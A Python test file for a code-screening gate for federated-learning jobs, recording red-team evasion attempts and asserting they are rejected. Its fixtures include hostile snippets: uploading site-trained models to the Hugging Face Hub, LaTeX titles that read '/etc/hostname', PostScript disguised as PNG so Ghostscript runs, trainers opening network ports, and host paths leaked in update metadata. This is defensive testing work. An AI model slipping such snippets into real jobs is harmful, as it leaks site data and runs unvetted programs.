"""Red team 40b: code execution, network and host access through what the catalogue vouches for.

About 350 attempts (library helpers with a chosen URL, logging handlers and dictConfig, multiprocessing,
asyncio, runpy/code/pdb/timeit/doctest, atexit/signal/settrace, dunder hooks, format tricks, modules
re-exported by other modules, yaml loaders, torch/tf/onnx native loads, NVFlare's FLContext, Flower's
pyproject, Pillow's decoders) were scanned on main (786c2ca); nearly all reject or escalate. Accepted there,
closed here: a Hub upload by save_pretrained(push_to_hub=True); Lightning/NeMo Trainer(num_nodes>1) leaving
seats of the world open; pyplot text with usetex (latex and dvipng run; also through a fontdict);
Booster.load_model of a URI; a Flower component naming a module the job does not ship; PostScript shipped as
an image that Pillow renders with Ghostscript; host paths in the update (tempfile's folder, relpath from '/',
the FLContext properties NVFlare fills from the site's deployment). Still open (xfail strict): an unannotated
fl_ctx's `props` dict. (Host paths held by a library object's attribute, a temporary folder's or file's `.name`,
the site log's handler, were open here and are closed by red team 41b.)

Public malware snippets jobgate accepts (bench/malware_snippets.py, /tmp/s40/mal.json: 11 of 209): none is
hostile in a job. Ten are GuardDog's obfuscation-pattern fixtures (`if not 1: pass`, `''.join(chr(c) for c in
[72, 101])`, nested lambdas adding numbers) that compute a value and do nothing with it; the eleventh
(dll-hijacking_02) binds a batch script's text to a local of a function nobody calls, and writes or runs
nothing. A gate that stopped them would stop plain code.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from analyzer import api
from analyzer.engine.collect import from_bytes
from analyzer.model import Decision

POLICY = api.load_policy()

TRAIN = """\
import torch
import nvflare.client as flare

flare.init()
model = torch.nn.Linear(4, 2)
while flare.is_running():
    m = flare.receive()
    model.load_state_dict(m.params)
    flare.send(flare.FLModel(params=model.state_dict(), meta={"NUM_STEPS_CURRENT_ROUND": 1, "run": TAG}))
"""


def _report(code: str):
    full = code if "TAG" in code else code + "TAG = 'v1'\n"
    return api.analyze(from_bytes("client.py", (full + TRAIN).encode(), POLICY.limits), POLICY)


def decision(code: str) -> Decision:
    return _report(code).decision


def rules_of(code: str) -> set[str]:
    return {f.rule for f in _report(code).findings}


# ---- uploads and network seats hidden in keyword arguments of vouched calls ----------------------------------

# transformers' PreTrainedModel/PreTrainedTokenizerBase.save_pretrained(push_to_hub=True) uploads the folder it
# wrote to the Hugging Face Hub (modeling_utils.py, tokenization_utils_base.py: `if push_to_hub: ...
# self._upload_modified_files(...)`), with the site's stored token: the model trained on the site's rows leaves
# the site outside NVFlare.
HUB_UPLOADS = {
    "model": "from transformers import AutoModel\nm = AutoModel.from_pretrained('bert-base-uncased')\n"
             "m.save_pretrained('outputs/final', push_to_hub=True, repo_id='fl-lab/site-1-final')\n",
    "tokenizer": "from transformers import AutoTokenizer\ntok = AutoTokenizer.from_pretrained('bert-base-uncased')\n"
                 "tok.save_pretrained('outputs/final', push_to_hub=True, repo_id='fl-lab/site-1-final')\n",
    "settings-dict": "from transformers import AutoModel\nm = AutoModel.from_pretrained('bert-base-uncased')\n"
                     "SAVE = {'push_to_hub': True, 'repo_id': 'fl-lab/site-1-final'}\nm.save_pretrained('outputs/final', **SAVE)\n",
    "untyped-model": "def export(model):\n    model.save_pretrained('outputs/final', push_to_hub=True, repo_id='fl-lab/x')\n",
}


@pytest.mark.parametrize("name", sorted(HUB_UPLOADS))
def test_save_pretrained_pushing_to_the_hub_is_not_accepted(name: str) -> None:
    assert decision(HUB_UPLOADS[name]) is not Decision.ACCEPT


@pytest.mark.parametrize("extra", ["", ", push_to_hub=False", ", safe_serialization=True"])
def test_save_pretrained_to_a_job_folder_stays_accepted(extra: str) -> None:
    code = f"from transformers import AutoModel\nm = AutoModel.from_pretrained('bert-base-uncased')\nm.save_pretrained('outputs/final'{extra})\n"
    assert decision(code) is Decision.ACCEPT


# Lightning's DDP makes a world of num_nodes x devices ranks and starts only this node's (NODE_RANK, default 0):
# rank 0's store listens on MASTER_PORT on every interface (the job may set the port: stdlib.yaml), so the seats
# of the other "nodes" are open to any host that connects, which then takes part in every all-reduce of the
# gradients of the site's batches (lightning/pytorch/strategies/ddp.py _set_world_ranks; red team 37a's reason
# for init_process_group's world_size).
NODE_SEATS = {
    "lightning": "import os\nimport lightning.pytorch as pl\nos.environ['MASTER_PORT'] = '29500'\n"
                 "trainer = pl.Trainer(num_nodes=2, strategy='ddp', devices=1, accelerator='cpu', max_epochs=1)\n",
    "pytorch_lightning": "import pytorch_lightning as pl\ntrainer = pl.Trainer(num_nodes=4, max_epochs=1)\n",
    "settings-dict": "import lightning.pytorch as pl\nCFG = {'num_nodes': 2, 'max_epochs': 1}\ntrainer = pl.Trainer(**CFG)\n",
}


@pytest.mark.parametrize("name", sorted(NODE_SEATS))
def test_a_trainer_waiting_for_other_nodes_is_not_accepted(name: str) -> None:
    assert decision(NODE_SEATS[name]) is not Decision.ACCEPT


@pytest.mark.parametrize("kwargs", ["max_epochs=1", "num_nodes=1, max_epochs=1", "devices=2, strategy='ddp'"])
def test_a_trainer_of_this_node_stays_accepted(kwargs: str) -> None:
    assert decision(f"import lightning.pytorch as pl\ntrainer = pl.Trainer({kwargs})\n") is Decision.ACCEPT


# ---- programs started by a vouched call ------------------------------------------------------------------------

# matplotlib renders a text with usetex=True by running `latex` and `dvipng` (matplotlib/texmanager.py
# TexManager.make_dvi/make_png, _run_checked_subprocess): programs the gate does not list, and TeX reads any file
# the site's user may read (`\input{/etc/passwd}` typesets it into the saved figure).
USETEX = {
    "title": "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.title(r'\\input{/etc/hostname}', usetex=True)\nplt.savefig('outputs/loss.png')\n",
    "xlabel": "import matplotlib.pyplot as plt\nplt.xlabel('round', usetex=True)\nplt.savefig('outputs/loss.png')\n",
    "suptitle": "import matplotlib.pyplot as plt\nplt.suptitle('loss', usetex=True)\nplt.savefig('outputs/loss.png')\n",
    "settings-dict": "import matplotlib.pyplot as plt\nTEXT = {'usetex': True}\nplt.ylabel('loss', **TEXT)\nplt.savefig('outputs/loss.png')\n",
    "fontdict": "import matplotlib.pyplot as plt\nplt.title('loss', fontdict={'usetex': True})\nplt.savefig('outputs/loss.png')\n",
    "fontdict-second": "import matplotlib.pyplot as plt\nplt.xlabel('round', {'usetex': True})\nplt.savefig('outputs/loss.png')\n",
    "fontdict-name": "import matplotlib.pyplot as plt\nFONT = {'usetex': True}\nplt.ylabel('loss', fontdict=FONT)\nplt.savefig('outputs/loss.png')\n",
}


@pytest.mark.parametrize("name", sorted(USETEX))
def test_text_typeset_by_latex_is_not_accepted(name: str) -> None:
    assert decision(USETEX[name]) is not Decision.ACCEPT


@pytest.mark.parametrize("extra", ["", ", usetex=False", ", fontsize=12", ", fontdict={'fontsize': 12, 'fontweight': 'bold'}"])
def test_mathtext_titles_stay_accepted(extra: str) -> None:
    code = f"import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.title('$x^2$'{extra})\nplt.xlabel('round'{extra})\nplt.savefig('outputs/loss.png')\n"
    assert decision(code) is Decision.ACCEPT


# ---- code loaded from outside the job -------------------------------------------------------------------------

FLOWER_PYPROJECT = """\
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "fedapp"
version = "1.0.0"
dependencies = ["flwr[simulation]>=1.20", "torch"]

[tool.hatch.build.targets.wheel]
packages = ["."]

[tool.flwr.app]
publisher = "lab"

[tool.flwr.app.components]
serverapp = "fedapp.server_app:app"
clientapp = "{clientapp}"

[tool.flwr.app.config]
num-server-rounds = 3
"""

FLOWER_CLIENT = """\
import torch
from flwr.app import ArrayRecord, Context, Message, MetricRecord, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


@app.train()
def train(msg: Message, context: Context):
    model = torch.nn.Linear(4, 2)
    model.load_state_dict(msg.content["arrays"].to_torch_state_dict())
    content = RecordDict({"arrays": ArrayRecord(model.state_dict()), "metrics": MetricRecord({"num-examples": 10})})
    return Message(content=content, reply_to=msg)
"""

FLOWER_SERVER = """\
from flwr.common import Context
from flwr.server import ServerApp, ServerAppComponents, ServerConfig
from flwr.server.strategy import FedAvg


def server_fn(context: Context):
    return ServerAppComponents(strategy=FedAvg(), config=ServerConfig(num_rounds=3))


app = ServerApp(server_fn=server_fn)
"""


def _flower_app(root: Path, clientapp: str) -> Path:
    (root / "fedapp").mkdir()
    (root / "fedapp" / "__init__.py").write_text("")
    (root / "fedapp" / "client_app.py").write_text(FLOWER_CLIENT)
    (root / "fedapp" / "server_app.py").write_text(FLOWER_SERVER)
    (root / "pyproject.toml").write_text(FLOWER_PYPROJECT.format(clientapp=clientapp))
    return root


# Flower loads a component by importing the module its reference names (flwr/common/object_ref.py load_app:
# importlib.import_module(module_str), then getattr): a module the job does not ship is code of the site's
# environment run at import, which the gate never read (`antigravity` starts a web browser; `h` is assigned
# inside its geohash, which is all validate() asks of the attribute).
@pytest.mark.parametrize("clientapp", ["antigravity:h", "fl_site_helpers.client:app", "fedapp.client_app_v2:app"])
def test_a_flower_component_outside_the_job_is_not_accepted(tmp_path: Path, clientapp: str) -> None:
    assert api.scan(_flower_app(tmp_path, clientapp), POLICY).decision is not Decision.ACCEPT


def test_a_flower_component_the_job_ships_stays_accepted(tmp_path: Path) -> None:
    assert api.scan(_flower_app(tmp_path, "fedapp.client_app:app"), POLICY).decision is Decision.ACCEPT


# XGBoost's Booster.load_model hands a text to the native library, which opens a URI itself (dmlc streams read
# s3:// and http(s):// where built with them), as DMatrix does: the catalogue's member entry asks for a local
# path, but `xgboost.Booster().load_model` was also listed without it.
@pytest.mark.parametrize("source", ["'https://models.example/site-init.json'", "'s3://fl-models/site-init.json'"])
def test_a_booster_loaded_from_a_uri_is_not_accepted(source: str) -> None:
    assert decision(f"import xgboost as xgb\nbst = xgb.Booster()\nbst.load_model({source})\n") is not Decision.ACCEPT


@pytest.mark.parametrize("source", ["'models/init.json'", "bytearray(m.params['booster'])"])
def test_a_booster_loaded_from_a_job_file_or_the_servers_bytes_stays_accepted(source: str) -> None:
    code = (f"import xgboost as xgb\nimport nvflare.client as flare\nm = flare.receive()\nbst = xgb.Booster()\n"
            f"bst.load_model({source})\n")
    assert decision(code) is Decision.ACCEPT


# Pillow picks a decoder by a file's first bytes (PIL/Image.py open) and renders PostScript by running
# Ghostscript (PIL/EpsImagePlugin.py): an image the job ships and opens with the vouched Image.open may be a
# program for another interpreter. Image files are judged by their bytes (detectors/images.py).
EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 4 4\nnewpath 0 0 moveto 4 4 lineto stroke\nshowpage\n"
IMAGE_CLIENT = "from PIL import Image\nWATERMARK = Image.open('assets/NAME').convert('L')\nTAG = 'v1'\n" + TRAIN


def _image_job(root: Path, name: str, data: bytes) -> Path:
    (root / "assets").mkdir()
    (root / "assets" / name).write_bytes(data)
    (root / "client.py").write_text(IMAGE_CLIENT.replace("NAME", name))
    return root


@pytest.mark.parametrize("name, data", [("watermark.png", EPS), ("watermark.eps", EPS),
                                        ("watermark.yaml", EPS), ("watermark.json", EPS),  # config names too
                                        ("watermark.jpg", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")])
def test_an_image_that_is_not_what_its_name_says_is_not_accepted(tmp_path: Path, name: str, data: bytes) -> None:
    report = api.scan(_image_job(tmp_path, name, data), POLICY)
    assert report.decision is not Decision.ACCEPT
    assert "unanalyzable.image-content" in {f.rule for f in report.findings}


@pytest.mark.parametrize("name, data", [("watermark.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"),
                                        ("watermark.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")])
def test_an_image_in_its_own_format_stays_accepted(tmp_path: Path, name: str, data: bytes) -> None:
    assert api.scan(_image_job(tmp_path, name, data), POLICY).decision is Decision.ACCEPT


# ---- host facts in the update ----------------------------------------------------------------------------------

# Absolute paths of the site's machine in FLModel.meta (red team 39a escalates os.getcwd, Path.home, abspath...):
# the temporary folder (TMPDIR, which clusters set per user: /scratch/<user>/tmp; rules/flow/sources.yaml
# host_paths), and the working folder spelled as the way from the file system's root or from folders above it
# (relative_paths).
@pytest.mark.parametrize("code", ["import tempfile\nTAG = tempfile.gettempdir()\n",
                                  "import tempfile\nTAG = tempfile.mkdtemp()\n",
                                  "import os\nTAG = os.path.relpath('.', '/')\n",
                                  "import os\nTAG = os.path.relpath(os.curdir, os.sep)\n",
                                  "import os\nTAG = os.path.relpath('.', start='../..')\n"])
def test_host_paths_in_meta_are_not_accepted(code: str) -> None:
    assert "update-channel-leak.unknown-provenance" in rules_of(code)


@pytest.mark.parametrize("code", ["import os\nTAG = os.path.relpath('outputs/model.pt', 'outputs')\n",
                                  "import os\nTAG = os.path.relpath('outputs/model.pt')\n"])
def test_a_path_between_job_folders_in_meta_stays_accepted(code: str) -> None:
    assert decision(code) is Decision.ACCEPT


# The same paths through an attribute of a library object (the name of a temporary folder or file, the site log's
# file: the root logger's handler that NVFlare configures): open here, closed by red team 41b (sources.yaml
# host_path_attributes).
HELD_HOST_PATHS = {
    "temporary-folder-name": "import tempfile\nTAG = tempfile.TemporaryDirectory().name\n",
    "temporary-file-name": "import tempfile\nTAG = tempfile.NamedTemporaryFile(suffix='.pt').name\n",
    "log-file": "import logging\nTAG = logging.getLogger().handlers[0].baseFilename\n",
    "log-handlers": "import logging\nTAG = str(logging.getLogger().handlers)\n",
}


@pytest.mark.parametrize("name", sorted(HELD_HOST_PATHS))
def test_host_paths_held_by_library_objects_in_meta_are_not_accepted(name: str) -> None:
    assert decision(HELD_HOST_PATHS[name]) is not Decision.ACCEPT


EXECUTOR = """\
from nvflare.apis.dxo import DXO, DataKind, MetaKey, from_shareable
from nvflare.apis.executor import Executor
from nvflare.apis.fl_constant import FLContextKey, ReturnCode
from nvflare.apis.shareable import make_reply
from nvflare.app_common.app_constant import AppConstants


class NumpyTrainer(Executor):
    def execute(self, task_name, shareable, fl_ctx, abort_signal):
        if task_name != "train":
            return make_reply(ReturnCode.TASK_UNKNOWN)
        w = from_shareable(shareable).data["w"]
        out = DXO(data_kind=DataKind.WEIGHTS, data={{"w": w}})
        out.set_meta_prop(MetaKey.NUM_STEPS_CURRENT_ROUND, 1)
        out.set_meta_prop("run", {value})
        return out.to_shareable()
"""


def _executor_decision(value: str) -> Decision:
    code = EXECUTOR.format(value=value)
    return api.analyze(from_bytes("trainer.py", code.encode(), POLICY.limits), POLICY).decision


# NVFlare fills FLContext properties from the site's deployment before the job's components run
# (nvflare/private/fed/client/client_app_runner.py: WORKSPACE_ROOT is the site's workspace folder, APP_ROOT the
# job's folder in it, ARGS the job process's command line): a setting of the site (sources.yaml site_prop_keys).
@pytest.mark.parametrize("value", ["fl_ctx.get_prop(FLContextKey.WORKSPACE_ROOT)", "str(fl_ctx.get_prop(FLContextKey.ARGS))",
                                   "str(fl_ctx.get_prop(FLContextKey.CLIENT_CONFIG))", "fl_ctx.get_prop('__app_root__')"])
def test_the_sites_deployment_from_the_fl_context_in_meta_is_not_accepted(value: str) -> None:
    assert _executor_decision(value) is not Decision.ACCEPT


# The whole property dict of an FLContext the code does not annotate: NVFlare calls the override as it calls
# Executor.execute, whose annotation types it (library_classes.parameter_type; open until holes42).
def test_the_fl_contexts_property_dict_in_meta_is_not_accepted() -> None:
    assert _executor_decision("str(fl_ctx.props)") is not Decision.ACCEPT


@pytest.mark.parametrize("value", ["fl_ctx.get_job_id()", "fl_ctx.get_identity_name()",
                                   "fl_ctx.get_prop(AppConstants.CURRENT_ROUND)"])
def test_the_jobs_own_facts_from_the_fl_context_stay_accepted(value: str) -> None:
    assert _executor_decision(value) is Decision.ACCEPT


def test_job_facts_and_a_temporary_file_used_as_a_place_stay_accepted() -> None:
    code = ("import os, tempfile, torch\nscratch = tempfile.mkdtemp()\ntorch.save({}, os.path.join(scratch, 'w.pt'))\n"
            "TAG = os.cpu_count()\n")
    assert decision(code) is Decision.ACCEPT


# ---- the corpus samples (accepted at 786c2ca) --------------------------------------------------------------------

CORPUS = Path(__file__).resolve().parents[1] / "corpus"
ATTACKS = ["malicious/rt40b_hub_push_save_pretrained.py", "malicious/rt40b_lightning_open_node_seats.py",
           "malicious/rt40b_usetex_title_input.py", "jobs/rt40b_flower_component_outside",
           "malicious/rt40b_workspace_root_meta.py", "jobs/rt40b_eps_as_png_logo"]
TWINS = ["benign/near_rt40b_save_pretrained_local.py", "benign/near_rt40b_lightning_one_node.py",
         "benign/near_rt40b_mathtext_title.py", "jobs/near_rt40b_flower_component_shipped",
         "benign/near_rt40b_round_from_context.py", "jobs/near_rt40b_png_logo"]


def test_the_samples_are_labelled() -> None:
    import yaml

    labelled = {e["path"] for e in yaml.safe_load((CORPUS / "labels.yaml").read_text())}
    assert set(ATTACKS + TWINS) <= labelled


@pytest.mark.parametrize("sample", ATTACKS)
def test_attack_sample_is_not_accepted(sample: str) -> None:
    assert api.scan(CORPUS / sample, POLICY).decision is not Decision.ACCEPT


@pytest.mark.parametrize("sample", TWINS)
def test_twin_sample_stays_accepted(sample: str) -> None:
    assert api.scan(CORPUS / sample, POLICY).decision is Decision.ACCEPT
